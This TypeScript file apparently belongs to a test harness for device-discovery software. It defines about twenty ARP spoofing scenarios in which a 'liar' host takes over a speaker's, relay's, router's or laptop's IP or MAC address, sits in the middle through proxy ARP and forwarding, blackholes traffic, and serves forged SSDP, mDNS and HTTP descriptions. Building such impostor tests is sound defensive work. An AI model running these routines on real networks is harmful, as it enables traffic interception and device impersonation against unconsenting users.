import { execFileSync } from 'node:child_process'
import type { Attack, Liar } from '../attack.ts'
import { ipOf, LAPTOP, LIAR, RELAY, RELAY_IS, ROUTER, SPEAKER, SPEAKER_IS } from '../places.ts'
import { httpAnswer, MDNS, ssdpAnswer } from '../voice.ts'
import { description, fakeRelay, stolen } from './identity.ts'

/**
 * Theft of an address (RFC 826 knows no owner): the liar answers ARP for an honest neighbour, announces its address as
 * its own (RFC 5227, 3), takes turns with it, passes its packets on, or wears its MAC.
 */

const own = ipOf(LIAR)
const speaker = ipOf(SPEAKER)
const relay = ipOf(RELAY)
/** Where the speaker's description is. */
const SPEAKERS_PORT = 1400
const SECONDS = 12

const ip = (...words: string[]) => execFileSync('ip', words)
const set = (...settings: string[]) => execFileSync('sysctl', ['-qw', ...settings])
const hold = (address: string) => ip('addr', 'replace', `${address}/32`, 'dev', 'lan0')
const drop = (address: string) => ip('addr', 'del', `${address}/32`, 'dev', 'lan0')

/** Says unasked that it has the addresses it holds: Linux does so whenever a card comes up. */
function announce(): void {
  set('net.ipv4.conf.lan0.arp_notify=1')
  ip('link', 'set', 'lan0', 'down')
  ip('link', 'set', 'lan0', 'up')
}

/** Serves, wherever the speaker would be asked, a description of another model and firmware. */
const describe = (by: Liar, fields: Readonly<Record<string, string>> = {}) =>
  by.serve(SPEAKERS_PORT, (stream) => stream.end(httpAnswer(description(fields))))

/** The answer of the relay's own page, with another model and firmware. */
const pageOfRelay = (by: Liar) =>
  by.serve(80, (stream) =>
    stream.end(
      httpAnswer(
        JSON.stringify({
          id: RELAY_IS.host.toLowerCase(),
          model: 'SNSW-002P16EU',
          ver: '0.0.9',
          app: 'Plus2PM',
        }),
        'application/json',
      ),
    ),
  )

const speakersAnswer = (from: string) =>
  ssdpAnswer({
    ST: 'upnp:rootdevice',
    USN: `${stolen.UDN}::upnp:rootdevice`,
    LOCATION: `http://${from}:${SPEAKERS_PORT}/xml/device_description.xml`,
  })

export const arpAttacks: readonly Attack[] = [
  {
    id: 'arp-holds-the-speaker',
    tries: 'the address of an honest neighbour as one more of its own, and silence',
    takes: [speaker],
    run: () => void hold(speaker),
  },
  {
    id: 'arp-answers-as-the-speaker',
    tries: 'the address of an honest neighbour, and a description with another firmware there',
    takes: [speaker],
    async run(by) {
      hold(speaker)
      await describe(by, { UDN: stolen.UDN, serialNum: stolen.serialNum, modelName: 'Sonos Fake' })
    },
  },
  {
    id: 'arp-answers-as-both',
    tries: 'the addresses of both honest neighbours, with descriptions and pages of its own',
    takes: [speaker, relay],
    async run(by) {
      for (const address of [speaker, relay]) hold(address)
      await describe(by, stolen)
      await pageOfRelay(by)
    },
  },
  {
    id: 'arp-is-the-speaker-twice',
    tries: 'everything an honest neighbour says of itself, at that neighbour’s address and at its own',
    takes: [speaker],
    async run(by) {
      hold(speaker)
      await describe(by, stolen)
      await by.onSearch([speakersAnswer(own)])
    },
  },
  {
    id: 'arp-announces-the-speaker',
    tries: 'announcements, twice a second, that an honest neighbour’s address is at its MAC',
    takes: [speaker],
    async run(by) {
      await describe(by, stolen)
      for (let i = 0; i < SECONDS * 2; i++) {
        hold(speaker)
        announce()
        await by.wait(0.5)
      }
    },
  },
  {
    id: 'arp-announces-the-relay',
    tries: 'the same for the neighbour that speaks multicast DNS, with a page of its own',
    takes: [relay],
    async run(by) {
      await pageOfRelay(by)
      for (let i = 0; i < SECONDS * 2; i++) {
        hold(relay)
        announce()
        await by.wait(0.5)
      }
    },
  },
  {
    id: 'arp-takes-turns',
    tries: 'the address of an honest neighbour every other second',
    takes: [speaker, relay],
    async run(by) {
      await describe(by, stolen)
      for (let i = 0; i < SECONDS / 2; i++) {
        for (const address of [speaker, relay]) hold(address)
        announce()
        await by.wait(1)
        for (const address of [speaker, relay]) drop(address)
        await by.wait(1)
      }
    },
  },
  {
    id: 'arp-takes-late',
    tries: 'the addresses of both neighbours, three seconds after they were found',
    takes: [speaker, relay],
    async run(by) {
      await describe(by, stolen)
      await pageOfRelay(by)
      await by.wait(3)
      for (const address of [speaker, relay]) hold(address)
      announce()
      await by.wait(SECONDS)
    },
  },
  {
    id: 'arp-passes-on',
    tries: 'to stand between: it answers ARP for both neighbours and passes their packets on',
    takes: [speaker, relay],
    run() {
      set(
        'net.ipv4.ip_forward=1',
        'net.ipv4.conf.all.send_redirects=0',
        'net.ipv4.conf.lan0.send_redirects=0',
      )
      for (const address of [speaker, relay]) ip('neigh', 'add', 'proxy', address, 'dev', 'lan0')
      set('net.ipv4.conf.lan0.proxy_arp=1', 'net.ipv4.conf.lan0.proxy_arp_pvlan=1')
    },
  },
  {
    id: 'arp-swallows',
    tries: 'to answer ARP for both neighbours and drop what comes',
    takes: [speaker, relay],
    run() {
      set('net.ipv4.ip_forward=1', 'net.ipv4.conf.lan0.proxy_arp=1', 'net.ipv4.conf.lan0.proxy_arp_pvlan=1')
      for (const address of [speaker, relay]) {
        ip('neigh', 'add', 'proxy', address, 'dev', 'lan0')
        ip('route', 'add', 'blackhole', `${address}/32`)
      }
    },
  },
  {
    id: 'arp-holds-everybody',
    tries: 'the addresses of the router and of both neighbours, each described as its own',
    takes: [ipOf(ROUTER), speaker, relay],
    async run(by) {
      for (const address of [ipOf(ROUTER), speaker, relay]) hold(address)
      await describe(by)
      await pageOfRelay(by)
      await by.pour(MDNS, [fakeRelay(own, 80)], 5)
    },
  },
  {
    id: 'arp-holds-the-laptop-too',
    tries: 'the addresses of a neighbour and of the laptop that asks for it',
    takes: [speaker],
    async run(by) {
      for (const address of [speaker, ipOf(LAPTOP)]) hold(address)
      await describe(by, stolen)
    },
  },
  {
    id: 'arp-wears-the-speakers-mac',
    tries: 'the MAC of an honest neighbour at an address of its own, and silence',
    mac: SPEAKER.mac,
    run: () => undefined,
  },
  {
    id: 'arp-wears-the-mac-and-speaks',
    tries: 'the MAC of an honest neighbour, with a device of another model and firmware',
    mac: SPEAKER.mac,
    async run(by) {
      await describe(by)
      await by.onSearch([
        ssdpAnswer({
          ST: 'upnp:rootdevice',
          USN: 'uuid:liar::upnp:rootdevice',
          LOCATION: `http://${own}:${SPEAKERS_PORT}/d.xml`,
        }),
      ])
      await by.pour(MDNS, [fakeRelay(own, 80)], 5)
    },
  },
  {
    id: 'arp-wears-the-mac-and-every-word',
    tries: 'the MAC of an honest neighbour and everything it says, with another firmware',
    mac: SPEAKER.mac,
    async run(by) {
      await describe(by, { ...stolen, modelName: `Sonos ${SPEAKER_IS.model}` })
      await by.onSearch([speakersAnswer(own)])
    },
  },
  {
    id: 'arp-answers-for-everybody',
    tries: 'to answer ARP for every address of the network, and take every connection in silence',
    takes: [speaker, relay],
    async run(by) {
      // AnyIP: every address of the network is one of its own.
      ip('route', 'add', 'local', '10.91.0.0/24', 'dev', 'lan0', 'table', 'local')
      for (const port of [80, 443, SPEAKERS_PORT]) await by.serve(port, () => undefined)
    },
  },
  {
    id: 'arp-answers-for-everybody-and-describes',
    tries: 'the same, with the speaker’s words, model and firmware changed, at every address',
    takes: [speaker, relay],
    async run(by) {
      ip('route', 'add', 'local', '10.91.0.0/24', 'dev', 'lan0', 'table', 'local')
      await describe(by, stolen)
      await pageOfRelay(by)
      await by.onSearch([speakersAnswer(own)])
    },
  },
  {
    id: 'arp-holds-half-the-network',
    tries: 'to answer ARP for a hundred and twenty-eight addresses nobody has',
    async run(by) {
      ip('route', 'add', 'local', '10.91.0.128/25', 'dev', 'lan0', 'table', 'local')
      await describe(by, stolen)
    },
  },
  {
    id: 'arp-redirects',
    tries: 'to stand between, and to send an ICMP redirect for every packet it passes on',
    takes: [speaker, relay],
    run() {
      set(
        'net.ipv4.ip_forward=1',
        'net.ipv4.conf.all.send_redirects=1',
        'net.ipv4.conf.lan0.send_redirects=1',
      )
      for (const address of [speaker, relay]) ip('neigh', 'add', 'proxy', address, 'dev', 'lan0')
      set('net.ipv4.conf.lan0.proxy_arp=1', 'net.ipv4.conf.lan0.proxy_arp_pvlan=1')
    },
  },
]
